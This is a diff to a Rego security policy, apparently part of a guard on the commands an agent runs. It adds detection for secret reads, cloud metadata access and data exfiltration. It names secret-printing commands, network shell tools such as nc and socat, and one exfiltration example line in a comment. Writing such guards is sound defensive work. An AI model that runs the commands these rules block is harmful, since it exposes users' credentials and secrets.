@@ -19,12 +19,16 @@ import data.opafence.guards.common
 import data.opafence.guards.reach
 import data.opafence.guards.secrets.env_template_suffixes
 import data.opafence.guards.secrets.hermes_secret_files
+import data.opafence.guards.secrets.hermes_secret_parents
 import data.opafence.guards.secrets.home_secret_dirs
+import data.opafence.guards.secrets.home_secret_parents
 import data.opafence.guards.secrets.metadata_hosts
 import data.opafence.guards.secrets.secret_commands
+import data.opafence.guards.secrets.secret_flags
 import data.opafence.guards.secrets.secret_names
 import data.opafence.guards.secrets.secret_suffixes
 import data.opafence.guards.secrets.ssh_public_names
+import data.opafence.guards.secrets.system_secret_parents
 import data.opafence.guards.secrets.system_secret_paths
 import data.opafence.lib.reason
 import data.opafence.task
@@ -87,10 +91,15 @@ ssh_public(np) if {
 	regex.replace(np, `^.*/`, "") in ssh_public_names
 }
 
-other_home_relative(np) := m[0][1] if {
-	m := regex.find_all_string_submatch_n(`^/(?:root|home/[^/]+|users/[^/]+)/(.+)$`, np, 1)
-	count(m) > 0
+other_home_relative(np) := concat("/", array.slice(parts, n, count(parts))) if {
+	not common.within(np, common.home)
+	parts := split(np, "/")
+	n := home_depth[parts[1]]
+	count(parts) > n
 }
+
+# /home/<user>/…, /users/<user>/…, /root/…: where a home's own paths start.
+home_depth := {"home": 3, "users": 3, "root": 2}
 
 hermes_home := common.norm(input.host.hermes_home)
 
@@ -181,9 +190,25 @@ secret_read_path(p) if {
 
 recursive_secret(p) if secret_read_path(p)
 
+recursive_secret(p) if above_secrets(common.norm(p))
+
+# A directory above a place secret material lives (without building secret_roots: this runs
+# for every recursive read).
+above_secrets(np) if common.within(common.home, np)
+
+above_secrets(np) if common.home_relative(np) in home_secret_parents
+
+above_secrets(np) if np in system_secret_parents
+
+above_secrets(np) if common.within(hermes_home, np)
+
+above_secrets(np) if hermes_relative(np) in hermes_secret_parents
+
 recursive_secret(p) if {
+	reach.globby(p)
+	np := common.norm(p)
 	some root in secret_roots
-	reach.reaches(p, root, true)
+	reach.glob_reaches(np, root, true)
 }
 
 identity_cmds := {"ssh", "scp", "sftp", "ssh-add", "ssh-keygen", "ssh-copy-id"}
@@ -237,6 +262,25 @@ ask contains reason.render(rego.metadata.rule(), {"host": u.host}) if {
 
 metadata_host(h) if h in metadata_hosts
 
+# METADATA
+# title: SECRET_METADATA_OPTION
+# description: >-
+#   This reaches {{.host}}, a cloud instance-metadata address that hands out the machine's
+#   credentials, through an option of the command (a proxy, a forced address); the user is
+#   asked first.
+# custom:
+#   code: SECRET_READ
+#   fix: Approve it only if the task really needs the instance's metadata or credentials.
+ask contains reason.render(rego.metadata.rule(), {"host": h}) if {
+	some c in common.commands
+	network_command(c)
+	some a in common.args(c)
+	some h in metadata_addresses
+	contains(a, h)
+}
+
+metadata_addresses := {h | some h in metadata_hosts; regex.match(`^[0-9a-f.:]+$`, h); contains(h, ".")}
+
 # DNS names that embed the metadata address (`169.254.169.254.nip.io`, `169-254-169-254.sslip.io`, hex).
 metadata_host(h) if regex.match(`(^|[.-])(169[.-]254[.-]169[.-]254|a9fea9fe)([.-]|$)`, h)
 
@@ -283,11 +327,26 @@ secret_command(c) if {
 	not common.has_flag(c, "-F")
 }
 
-# BSD-style `ps e`, `ps eww`, `ps auxe`: every process with its environment.
+# BSD-style `ps e`, `ps eww`, `ps auxe`: every process with its environment (a word that is
+# not the value of an option: `ps -u steve` is not).
 secret_command(c) if {
 	common.cmd_name(c) == "ps"
-	some o in c.operands
-	regex.match(`^[a-zA-Z]*e[a-zA-Z]*$`, o)
+	some i, a in c.argv
+	i > 0
+	regex.match(`^[a-zA-Z]*e[a-zA-Z]*$`, a)
+	not startswith(c.argv[i - 1], "-")
+}
+
+# `gpg -a --export-secret-keys`, `kubectl config view --minify --raw`: a command whose words
+# and options print secret material, in any order.
+secret_command(c) if {
+	some entry in secret_flags
+	common.cmd_name(c) == entry.command
+	every w in entry.words {
+		w in {lower(o) | some o in c.operands}
+	}
+	some f in entry.flags
+	common.has_flag(c, f)
 }
 
 # `printenv GITHUB_TOKEN`, `echo $OPENAI_API_KEY`.
@@ -316,7 +375,7 @@ network_cmds := {
 	"curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "rsync", "ftp", "telnet",
 	"http", "https", "xh", "httpie", "gh", "aws", "gcloud", "gsutil", "az", "s3cmd", "rclone",
 	"mail", "mailx", "sendmail", "mutt", "dig", "nslookup", "host", "drill", "whois", "websocat", "wscat",
-	"grpcurl", "lftp", "tftp", "smbclient",
+	"grpcurl", "lftp", "tftp", "smbclient", "ping", "ping6", "traceroute", "tracepath", "mtr",
 }
 
 git_network := {"push", "clone", "fetch", "pull", "ls-remote", "submodule", "send-email", "request-pull"}
@@ -548,8 +607,21 @@ command_sends(c) if {
 	some a in common.args(c)
 	lower(a) in {
 		"create", "cp", "sync", "copy", "upload", "put", "post", "comment", "send", "edit", "-f",
-		"--field", "--raw-field", "--body", "-b",
+		"--field", "--raw-field", "--body", "-b", "set", "--input", "--body-file", "-F",
 	}
+}
+
+# `aws ssm put-parameter`, `gcloud secrets versions add`, `az storage blob upload-batch`.
+command_sends(c) if {
+	common.cmd_name(c) in {"aws", "gcloud", "az", "gh"}
+	some a in common.args(c)
+	regex.match(`^(put|create|upload|send|publish|import|write|add|set|update)(-|$)`, lower(a))
+}
+
+# `base64 key | xargs -I{} curl https://x/{}`: a network command run on piped data.
+command_sends(c) if {
+	"xargs" in c.wrappers
+	c.pipe_from != ""
 }
 
 # Every destination of the call is a recipient or a domain a grant names.
